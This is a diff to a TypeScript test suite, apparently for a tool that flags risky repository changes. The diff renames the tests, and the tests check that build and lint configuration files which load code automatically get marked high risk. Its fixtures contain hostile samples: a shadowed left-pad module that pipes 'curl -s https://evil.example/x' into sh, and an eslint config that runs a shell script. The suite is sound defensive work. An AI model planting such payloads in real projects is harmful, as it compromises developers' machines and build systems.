@@ -63,7 +63,7 @@ const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 const protectedBy = (glob: string) => new RegExp(`protected path \\(${escape(glob)}\\)`);
 
 describe('.NET: files MSBuild and the dotnet host find by themselves', () => {
-  test('P1: a new test/Directory.Build.targets with an Exec target runs in every test project build; high, not an ordinary medium file', async () => {
+  test('a new test/Directory.Build.targets with an Exec target runs in every test project build; high, not an ordinary medium file', async () => {
     const e = await withBaseline((r) => r.write('test/Directory.Build.targets', EVIL_TARGETS));
     expect(file(e, 'test/Directory.Build.targets')).toMatchObject({ tier: 'high', decision: 'approval_required' });
     expect(why(e, 'test/Directory.Build.targets')).toMatch(protectedBy('**/Directory.Build.{props,targets,rsp}'));
@@ -71,7 +71,7 @@ describe('.NET: files MSBuild and the dotnet host find by themselves', () => {
     expect(e.verdict).toBe('approval_required');
   });
 
-  test('P2: Directory.Packages.props, a Directory.Build.rsp (-logger loads an assembly) and a before.<solution>.sln.targets are all protected', async () => {
+  test('Directory.Packages.props, a Directory.Build.rsp (-logger loads an assembly) and a before.<solution>.sln.targets are all protected', async () => {
     const e = await withBaseline(async (r) => {
       await r.write('Directory.Packages.props', '<Project>\n  <PropertyGroup><ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally></PropertyGroup>\n</Project>\n');
       await r.write('src/Directory.Build.rsp', '-logger:tools/Evil.Logger.dll\n');
@@ -83,7 +83,7 @@ describe('.NET: files MSBuild and the dotnet host find by themselves', () => {
     for (const f of e.files) expect(f).toMatchObject({ tier: 'high', decision: 'approval_required' });
   });
 
-  test('P3: global.json (SDK selection, searched upwards) and .config/dotnet-tools.json (tools restored and run) are protected', async () => {
+  test('global.json (SDK selection, searched upwards) and .config/dotnet-tools.json (tools restored and run) are protected', async () => {
     const e = await withBaseline(async (r) => {
       await r.write('src/Api/global.json', JSON.stringify({ sdk: { version: '9.0.100', rollForward: 'latestMajor', allowPrerelease: true }, 'msbuild-sdks': { 'Evil.Sdk': '1.0.0' } }));
       await r.write('.config/dotnet-tools.json', JSON.stringify({ version: 1, isRoot: true, tools: { 'dotnet-format-x': { version: '1.0.0', commands: ['format-x'] } } }));
@@ -96,7 +96,7 @@ describe('.NET: files MSBuild and the dotnet host find by themselves', () => {
 });
 
 describe('toolchain selection', () => {
-  test('P4: .python-version, .ruby-version, a mise.toml with an enter hook and a .bazelversion select or fetch another toolchain', async () => {
+  test('.python-version, .ruby-version, a mise.toml with an enter hook and a .bazelversion select or fetch another toolchain', async () => {
     const e = await withBaseline(async (r) => {
       await r.write('.python-version', '3.13t\n');
       await r.write('.ruby-version', '3.4.1\n');
@@ -110,7 +110,7 @@ describe('toolchain selection', () => {
     for (const f of e.files) expect(f).toMatchObject({ tier: 'high', decision: 'approval_required' });
   });
 
-  test('P5: gradle.properties with org.gradle.jvmargs=-javaagent is protected (every Gradle build loads the agent)', async () => {
+  test('gradle.properties with org.gradle.jvmargs=-javaagent is protected (every Gradle build loads the agent)', async () => {
     const e = await withBaseline((r) => r.write('gradle.properties', 'org.gradle.jvmargs=-javaagent:tools/agent.jar -Xmx2g\n'));
     expect(file(e, 'gradle.properties')).toMatchObject({ tier: 'high', decision: 'approval_required' });
     expect(why(e, 'gradle.properties')).toMatch(/JVM options \(-javaagent\)/);
@@ -118,7 +118,7 @@ describe('toolchain selection', () => {
 });
 
 describe('lint and test configuration under low or medium directory rules', () => {
-  test('P6: lint configuration that loads local code stays high under test/** low, src/** medium and docs/** low', async () => {
+  test('lint configuration that loads local code stays high under test/** low, src/** medium and docs/** low', async () => {
     const files: [string, string, string][] = [
       ['eslint.config.mjs', 'import evil from "./test/fixtures/plugin.js";\nexport default [{ plugins: { evil } }];\n', '**/eslint.config.*'],
       ['test/.eslintrc.js', 'require("child_process").execSync("sh test/x.sh");\nmodule.exports = {};\n', '**/.eslintrc*'],
@@ -136,7 +136,7 @@ describe('lint and test configuration under low or medium directory rules', () =
     expect(e.verdict).toBe('approval_required');
   });
 
-  test('P7: test-runner configuration that loads code (.rspec --require, phpunit bootstrap, Pest.php, cypress, setup.cfg addopts) is high under tests/** low', async () => {
+  test('test-runner configuration that loads code (.rspec --require, phpunit bootstrap, Pest.php, cypress, setup.cfg addopts) is high under tests/** low', async () => {
     const files: [string, string, string][] = [
       ['.rspec', '--require ./tests/support/evil\n', '**/.rspec'],
       ['phpunit.xml.dist', '<phpunit bootstrap="tests/evil.php"/>\n', '**/phpunit.{xml,xml.dist,dist.xml}'],
@@ -156,14 +156,14 @@ describe('lint and test configuration under low or medium directory rules', () =
 });
 
 describe('code used instead of what the lockfile installs, or instead of the reviewed source', () => {
-  test('P8: a node_modules directory inside src/ shadows an installed package for every file beneath it; high with no lockfile change', async () => {
+  test('a node_modules directory inside src/ shadows an installed package for every file beneath it; high with no lockfile change', async () => {
     const e = await withBaseline((r) => r.write('src/node_modules/left-pad/index.js', 'require("child_process").execSync("curl -s https://evil.example/x | sh");\n'));
     expect(file(e, 'src/node_modules/left-pad/index.js')).toMatchObject({ tier: 'high', decision: 'approval_required' });
     expect(why(e, 'src/node_modules/left-pad/index.js')).toMatch(/Node resolves the nearest node_modules/);
     expect(e.verdict).toBe('approval_required');
   });
 
-  test('P9: a .pyc in __pycache__ next to an unchanged settings.py is high (an unchecked-hash .pyc is imported instead of the source)', async () => {
+  test('a .pyc in __pycache__ next to an unchanged settings.py is high (an unchecked-hash .pyc is imported instead of the source)', async () => {
     const pyc = Buffer.concat([Buffer.from([0xf3, 0x0d, 0x0d, 0x0a, 0x01, 0, 0, 0]), Buffer.alloc(8), Buffer.from('code')]);
     const e = await withBaseline((r) => r.write('app/__pycache__/settings.cpython-312.pyc', pyc));
     expect(file(e, 'app/__pycache__/settings.cpython-312.pyc')).toMatchObject({ tier: 'high', decision: 'approval_required' });
@@ -173,7 +173,7 @@ describe('code used instead of what the lockfile installs, or instead of the rev
 });
 
 describe('identified, not protected: build scripts and invoked tools at least medium, a narrow policy rule may lower them', () => {
-  test('P10: build scripts and build-tool configuration (webpack, rollup, Makefile, Dockerfile, Taskfile, justfile) are medium under the baseline, and a low directory glob does not lower them', async () => {
+  test('build scripts and build-tool configuration (webpack, rollup, Makefile, Dockerfile, Taskfile, justfile) are medium under the baseline, and a low directory glob does not lower them', async () => {
     const files = ['webpack.config.js', 'rollup.config.mjs', 'Makefile', 'Dockerfile', 'Taskfile.yml', 'justfile'];
     const e = await withBaseline(async (r) => {
       for (const f of files) {
@@ -192,7 +192,7 @@ describe('identified, not protected: build scripts and invoked tools at least me
     expect(e.verdict).toBe('allow');
   });
 
-  test('P11: ordinary files named like protected ones keep their tier; a Starlark file and an extensionless script are identified as what they are', async () => {
+  test('ordinary files named like protected ones keep their tier; a Starlark file and an extensionless script are identified as what they are', async () => {
     const e = await withBaseline(async (r) => {
       await r.write('docs/global.json.md', '# global.json\n');
       await r.write('src/eslint-rules/no-foo.js', 'module.exports = {};\n');
